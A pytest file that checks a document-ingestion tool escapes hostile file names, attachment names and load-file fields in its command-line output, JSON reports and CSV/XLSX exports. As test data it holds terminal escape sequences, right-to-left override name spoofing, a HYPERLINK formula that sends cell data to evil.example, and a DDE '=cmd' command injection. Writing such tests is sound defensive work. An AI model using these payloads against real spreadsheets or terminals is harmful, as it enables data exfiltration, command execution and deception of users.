"""Hostile names (issue #23): file names, attachment names and load-file fields with newlines,
terminal escapes, right-to-left overrides and HTML, through the real command line, the real
window and the exports. Nothing of them may drive a terminal, forge a line, read as another name
or run as HTML or a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import os
from email.message import EmailMessage
from pathlib import Path

import pytest

from app.safe_text import shown
from tests.conftest import run_cli

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

FORGED = "report.txt  (1 page)\ningested FORGED-etc-shadow  (9 pages)\nz.txt"
TITLE = "\x1b]0;pwned\x07title.txt"
CLEAR = "\x1b[2Jclear.txt"
OVERRIDE = "statement\u202eexe.txt"  # reads as "statementtxt.exe"
MARKUP = "<b>bold<img src=x>.txt"  # no "/" in a file name: no closing tags
REJECTED = "\u202eevil.exe"
ATTACHMENT = "\x1b]0;pwned\x07memo\u202etxt.exe\ningested FORGED-attachment.txt"
CASE = "Case\x1b]0;pwned\x07\u202e"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def write_hostile_files(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for number, name in enumerate((FORGED, TITLE, CLEAR, OVERRIDE, MARKUP)):
        (folder / name).write_text(f"File number {number} of the hostile set.", encoding="utf-8")
    (folder / REJECTED).write_bytes(b"MZ not a document")
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "a@example.com", "b@example.com", "Attached"
    message.set_content("See the attachments.")
    message.add_attachment(b"The attachment's own text.", maintype="text", subtype="plain",
                           filename=ATTACHMENT)
    message.add_attachment(b"\x00\x01 junk", maintype="application", subtype="octet-stream",
                           filename="\x1b[2Jjunk\u202e.xls")  # not read: its name is in a warning
    (folder / "mail.eml").write_bytes(bytes(message))
    volume = folder / "VOL001" / "DATA"
    volume.mkdir(parents=True)
    (volume / "load.dat").write_text(  # a production: Bates numbers and a custodian from outside
        "BEGDOC|ENDDOC|CUSTODIAN|TEXT\n"
        "X0001\x1b]0;pwned\x07|X0001\x1b]0;pwned\x07|Evil\u202eCustodian|Some produced text\n"
        f"X0003\u202e|X0003\u202e|{FORMULA}|\n", encoding="utf-8")
    return folder


@pytest.fixture
def hostile(tmp_path) -> Path:
    return write_hostile_files(tmp_path / "incoming")


def assert_safe(output: str) -> None:
    for char in RAW:
        assert char not in output, (char, output)
    for line in output.splitlines():
        assert not line.startswith("ingested FORGED"), output


def test_the_command_line_never_prints_a_name_raw(hostile, embedded_model):
    ingest = run_cli("ingest", "--case", CASE, str(hostile))
    assert ingest.returncode == 1, ingest.stderr  # the .exe is rejected
    assert_safe(ingest.stdout + ingest.stderr)
    lines = ingest.stdout.splitlines()
    assert sum(line.startswith("ingested ") for line in lines) == 7  # five files, the e-mail, X0001
    assert f"ingested  {hostile / shown(FORGED)}  (1 page)" in lines  # one line, visibly escaped
    assert f"rejected  {hostile / shown(REJECTED)}  (Unsupported file type (.exe).)" in lines
    assert any(line.strip().startswith("warning: Attachment \\x1b[2Jjunk\\u202e.xls") for line in lines)
    assert "  - load-file row without pages: X0003\\u202e: no page images" in ingest.stdout

    again = run_cli("ingest", "--case", CASE, "--json", str(hostile))  # reasons quote names too
    assert_safe(again.stdout)
    report = json.loads(again.stdout)  # still valid JSON, and lossless for programs
    assert report["case"] == CASE
    assert {Path(f["path"]).name for f in report["files"]} >= {FORGED, TITLE, CLEAR, OVERRIDE, MARKUP}
    assert any(FORGED in f["reason"] for f in report["files"] if f["status"] == "duplicate")

    listed = run_cli("cases", "list")
    assert_safe(listed.stdout)
    assert listed.stdout.startswith(shown(CASE))

    pages = run_cli("pages", "--case", CASE)
    assert_safe(pages.stdout)
    assert f"{shown(ATTACHMENT)} p1" in pages.stdout  # the attachment's page, labelled by its name
    for name in (FORGED, TITLE, CLEAR, OVERRIDE, MARKUP):
        assert f" {shown(name)}: 1 page" in pages.stdout

    plan = run_cli("plan", "--case", CASE)
    assert plan.returncode == 0, plan.stderr
    assert_safe(plan.stdout)
    assert shown(FORGED) in plan.stdout and shown(OVERRIDE) in plan.stdout

    missing = run_cli("pages", "--case", "Nope\x1b[2J\u202e")  # the error quotes what was typed
    assert missing.returncode == 2
    assert_safe(missing.stderr)
    assert missing.stderr.strip() == "casefile: No case named “Nope\\x1b[2J\\u202e”."


# ----- exports ----------------------------------------------------------------------------


def test_a_csv_export_runs_no_formula_from_a_name_or_a_field():
    from app.exports.render import csv_bytes
    from app.exports.report import Table, citation_text

    cells = [FORMULA, "+1+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain"]
    data = csv_bytes(Table([FORMULA, "Date"], [cells, ["a", "b"]], ["", ""]))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["'" + FORMULA, "Date"]
    assert rows[1] == ["'" + c for c in cells[:-1]] + ["plain"]
    cited = citation_text({"id": "D1", "page": 2, "document": OVERRIDE, "known": True, "bates": "ABC0001"})
    assert "\u202e" not in cited and shown(OVERRIDE) in cited


def test_no_formula_survives_in_a_workbook():
    from openpyxl import Workbook, load_workbook

    from app.exports.render import no_formulas

    book = Workbook()
    book.active.append([FORMULA, "=1+1", "text"])
    book.create_sheet("Other").append(["=cmd|' /C calc'!A0"])
    no_formulas(book)
    out = io.BytesIO()
    book.save(out)
    read = load_workbook(io.BytesIO(out.getvalue()))
    values = [c for sheet in read.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in values) and values[0].value == FORMULA


def test_a_review_workbook_runs_no_formula_from_a_load_file():
    from openpyxl import load_workbook

    from app.reviews.export import xlsx_bytes
    from storage.records import CaseRecord, ReviewCellRecord, ReviewRecord

    review = ReviewRecord(1, 1, "Review", ({"title": "=1+1", "question": "Who?", "type": "text"},),
                          ({"label": FORMULA, "document_ids": [1]},), "documents", "document", "done", "2025")
    cell = ReviewCellRecord(1, 0, 0, FORMULA, "", (), "cited", "", "2025", output=FORMULA)
    book = load_workbook(io.BytesIO(xlsx_bytes(CaseRecord(1, "=2+2", "2025"), review, [cell])))
    formulas = [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
